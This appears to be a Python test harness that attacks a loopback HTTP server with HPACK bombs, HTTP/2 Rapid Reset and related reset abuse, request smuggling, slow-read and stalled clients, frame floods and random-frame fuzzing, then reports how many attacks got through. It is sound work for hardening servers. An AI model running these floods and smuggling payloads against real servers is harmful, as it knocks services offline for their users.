#!/usr/bin/python3
"""Attacks on an HTTP port of the loopback, one at a time, at the lowest priority:

    attacks.py NAME PORT SECONDS [SEED]

Prints what came of it as JSON: connections made, and `passed`, how often something was taken that must not be."""
import json
import os
import random
import re
import socket
import struct
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "scenario"))

from harness.hostile import EXACT, MALFORMED, grow_windows_at_the_end  # noqa: E402,F401
from harness.raw import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, SETTINGS,  # noqa: E402
                         Raw, field, frame, get, headers, priority, request_block, rst_stream, settings,
                         string, window_update)
from harness.stalling import Stalling, run  # noqa: E402


class Attack:
    def __init__(self, port, seconds, seed):
        self.address, self.until, self.seed = ("127.0.0.1", port), time.monotonic() + seconds, seed
        self.connections = self.passed = self.bytes = 0
        self.left = []  # of those who must be ended: which kind, and how many bytes they took

    @property
    def goes_on(self):
        return time.monotonic() < self.until

    def connect(self, **more):
        """What a connection does is a matter of the seed and its number, so that each can be had again."""
        self.connections += 1
        self.random = random.Random(f"{self.seed} {self.connections}")
        return Raw(self.address, seconds=10, **more)

    def flood(self, data, before=b""):
        """One connection after the other, each for as long as the node bears it."""
        while self.goes_on:
            with self.connect() as raw:
                if raw.send(before):
                    self.bytes += raw.flood(data, self.until)

    # ---- the traps

    def window_after_end(self):
        """Every window grows while ends of streams are in flight."""
        while self.goes_on:
            self.connections += 1
            grow_windows_at_the_end(self.address)

    def hpack_bomb(self):
        """A field of 4,000 bytes enters the table once, then 16,000 of it in 16,000 bytes."""
        while self.goes_on:
            with self.connect() as raw:
                raw.send(headers(1, request_block("/hot") + field("x", "a" * 4000, indexed=True)))
                raw.await_frame(HEADERS, 1)
                bomb = headers(3, request_block("/hot") + b"\xbe" * 16_000)
                self.passed += bool(raw.send(bomb) and raw.ping())

    def many_fields(self):
        while self.goes_on:
            with self.connect() as raw:
                self.passed += bool(raw.send(headers(1, request_block("/hot") + field("a", "b") * 2_000)) and raw.ping())

    def unknown_frames(self):
        self.flood(b"".join(frame(kind, 0xff, kind, b"x" * (kind % 8)) for kind in range(0x10, 0x100)) * 16)

    def _reset(self, evil):
        """Distinct cold URLs, each given up: every other connection waits until they are asked of the origin."""
        while self.goes_on:
            with self.connect() as raw:
                run, patient, stream = f"/given-up/{os.getpid()}/{self.connections}/", self.connections % 2 == 1, 1
                while self.goes_on and stream < 100_000:
                    streams = range(stream, stream + 120, 2)
                    asked = b"".join(get(number, run + str(number)) for number in streams)
                    given_up = b"".join(map(evil, streams))
                    if not (raw.send(asked + (b"" if patient else given_up)) and raw.ping()):
                        break
                    if patient:
                        time.sleep(0.01)
                        raw.send(given_up)
                    stream += 120

    def rapid_reset(self):
        self._reset(rst_stream)

    def made_you_reset(self):
        evils = [lambda stream: window_update(stream, 0), lambda stream: window_update(stream, (1 << 31) - 1),
                 lambda stream: frame(DATA, 0, stream, b"more")]
        self._reset(lambda stream: evils[stream // 2 % 3](stream))

    def malformed_http2(self):
        forms = [dict(path=""), dict(path="x"), dict(path="/a b"), dict(method="GE T"), dict(authority="a b"),
                 dict(fields=[("connection", "close")]), dict(fields=[("x", "a\nb")]), dict(fields=[("content-length", "5")])]
        while self.goes_on:
            with self.connect() as raw:
                form = {"path": "/hot", **self.random.choice(forms)}
                raw.send(headers(1, request_block(**form)) + frame(PING, 0, 0, b"and then"))
                while (found := raw.frame()) and not (found.kind == PING and found.flags & ACK):
                    self.passed += found.kind == HEADERS

    def smuggling(self):
        forms = sorted(MALFORMED.values())
        while self.goes_on:
            with self.connect(preface=b"") as raw:
                raw.send(self.random.choice(forms) + b"GET /smuggled HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n")
                answers = re.findall(rb"^HTTP/1\.1 (\d+)", raw.rest(), re.M)
                self.passed += answers not in ([], [b"400"], [b"501"], [b"505"])

    def stalled_clients(self):
        """A hundred whose window is nothing, a hundred that do not read, a hundred that give or take a byte a second."""
        kinds = [lambda: Stalling(PREFACE + settings(initial_window_size=0) + get(1, "/huge")),
                 lambda: Stalling(b"GET /huge HTTP/1.1\r\nHost: a\r\n\r\n", reads=0),
                 lambda: Stalling(b"POST /hot HTTP/1.1\r\nHost: a\r\nContent-Length: 1000\r\n\r\n", each_second=b"x"),
                 lambda: Stalling(PREFACE + settings(initial_window_size=0) + get(1, "/huge")),
                 lambda: Stalling(PREFACE + settings(initial_window_size=1 << 30) + window_update(0, 1 << 30) +
                                  get(1, "/huge"), reads=0),
                 lambda: Stalling(PREFACE + settings(initial_window_size=0) + get(1, "/huge"),
                                  each_second=window_update(1, 1))]
        clients = [kinds[number % len(kinds)]() for number in range(300)]
        run(clients, self.address, self.until - time.monotonic())
        self.connections, self.passed = len(clients), sum(not client.ended for client in clients)
        self.left = [(number % len(kinds), client.got) for number, client in enumerate(clients) if not client.ended]

    # ---- floods

    def pings(self):
        self.flood(frame(PING, 0, 0, b"to & fro") * 10_000)

    def setting_changes(self):
        self.flood((settings(initial_window_size=0) + settings(initial_window_size=65535)) * 5_000,
                   b"".join(get(stream, "/large") for stream in range(1, 200, 2)))

    def priorities(self):
        """The tree of a hundred open streams, turned over and over."""
        streams = range(1, 200, 2)
        turn = b"".join(priority(stream, streams[index - 1] if index else streams[-1], 256, True)
                        for index, stream in enumerate(streams))
        self.flood(turn * 50, settings(initial_window_size=0) + b"".join(get(stream, "/large") for stream in streams))

    def empty_continuations(self):
        self.flood(frame(CONTINUATION, 0, 1) * 20_000, headers(1, request_block("/hot"), 0))

    def empty_data(self):
        self.flood(frame(DATA, 0, 1) * 20_000, headers(1, request_block("/hot", method="POST"), END_HEADERS))

    def data_after_the_end(self):
        self.flood(frame(DATA, 0, 1) * 20_000, get(1, "/hot"))

    def chunks_of_a_byte(self):
        """Bodies of HTTP/1.1 in the smallest pieces, each with more about it than in it."""
        head = b"POST /hot HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
        while self.goes_on:
            with self.connect(preface=b"") as raw:
                raw.send(head)
                self.bytes += raw.flood(b"1;a=b\r\nx\r\n" * 5_000, self.until)

    def requests_without_a_pause(self):
        """HTTP/1.1, one behind the other, whose answers are read; and empty lines."""
        while self.goes_on:
            with self.connect(preface=b"") as raw:
                self.bytes += raw.flood(b"GET /hot HTTP/1.1\r\nHost: a\r\n\r\n" * 1_000, self.until)
            with self.connect(preface=b"") as raw:
                self.bytes += raw.flood(b"\r\n" * 10_000, self.until)

    def window_updates(self):
        self.flood(window_update(1, 1) * 20_000, settings(initial_window_size=0) + get(1, "/large"))

    # ---- and anything else

    def random_frames(self):
        """Half of the connections send anything; the others open streams in order and turn to those, so that they last; some
        take little or nothing, so that what the node writes stays in flight."""
        while self.goes_on:
            narrow = self.connections % 3 == 0
            with self.connect(receive_buffer=4096 if narrow else None) as raw:
                raw.socket.settimeout(5)
                self.opened, lasting = 1, self.connections % 2 == 0
                for _ in range(self.random.randrange(1, 40)):
                    frames = b"".join(self._likely_frame() if lasting else self._any_frame() for _ in range(20))
                    if not raw.send(frames) or not self._read(raw, self.random.choice([0, 0, 4096, 1 << 16])):
                        break

    @staticmethod
    def _read(raw, most):
        raw.socket.setblocking(False)
        try:
            return most == 0 or raw.socket.recv(most) != b""
        except BlockingIOError:
            return True
        except ConnectionResetError:
            return False

    def _number(self):
        return struct.pack(">I", self.random.choice([0, 1, 1000, 65535, (1 << 31) - 1, self.random.getrandbits(32)]))

    def _path(self):
        return self.random.choice(["/hot", "/large", "/exact", "/cold/%d" % self.random.getrandbits(30)])

    def _any_frame(self):
        dice, stream = self.random, self.random.choice([0, 1, 1, 3, 5, 7, 9, 2, 200, (1 << 31) - 1])
        likely = [get(stream, self._path()),
                  headers(stream, request_block("/hot", method="POST"), END_HEADERS), rst_stream(stream),
                  frame(8, 0, stream, self._number()),
                  frame(DATA, dice.choice([0, 1, 8]), stream, dice.randbytes(dice.randrange(20))),
                  frame(SETTINGS, 0, 0, struct.pack(">H", dice.randrange(1, 7)) + self._number()),
                  frame(PING, 0, 0, b"8 bytes!"), frame(2, 0, stream, self._number() + b"\x10"),
                  frame(CONTINUATION, dice.choice([0, 4]), stream, string("x"))]
        if dice.random() < 0.97:
            return dice.choice(likely)
        return frame(dice.randrange(256), dice.randrange(256), stream, dice.randbytes(dice.randrange(64)))

    def _likely_frame(self):
        dice, stream = self.random, max(1, self.opened - 2 * self.random.randrange(1, 60))
        if dice.random() < 0.5:
            self.opened += 2
            end = dice.random() < 0.8
            return headers(self.opened - 2, request_block(self._path(), method="GET" if end else "POST"),
                           END_HEADERS | (END_STREAM if end else 0))
        return dice.choice([lambda: window_update(dice.choice([0, stream]), dice.choice([1, 1000, 1 << 20])),
                            lambda: settings(initial_window_size=dice.choice([0, 1, EXACT, EXACT + 1, 65535, 1 << 20])),
                            lambda: settings(header_table_size=dice.choice([0, 100, 4096]), max_frame_size=1 << 14),
                            lambda: rst_stream(stream), lambda: frame(PING, 0, 0, b"8 bytes!"),
                            lambda: priority(stream, dice.choice([0, stream + 2, max(0, stream - 2)]), dice.randrange(1, 257),
                                             dice.random() < 0.3),
                            lambda: frame(DATA, dice.choice([0, END_STREAM]), stream, dice.randbytes(dice.randrange(40)))])()


NAMES = [name for name, value in vars(Attack).items() if callable(value) and not name.startswith("_") and
         name not in ("connect", "flood")]


def main():
    name, port, seconds, *seed = sys.argv[1:]
    os.nice(19)
    attack = Attack(int(port), float(seconds), int(seed[0]) if seed else 0)
    try:
        getattr(attack, name)()
    except (ConnectionError, TimeoutError, socket.timeout) as error:  # a node that has died, or stands still
        print(json.dumps({"error": repr(error), **result(attack)}))
        return
    print(json.dumps(result(attack)))


def result(attack):
    return {"connections": attack.connections, "passed": attack.passed, "bytes": attack.bytes, "left": attack.left[:20]}


if __name__ == "__main__":
    main()
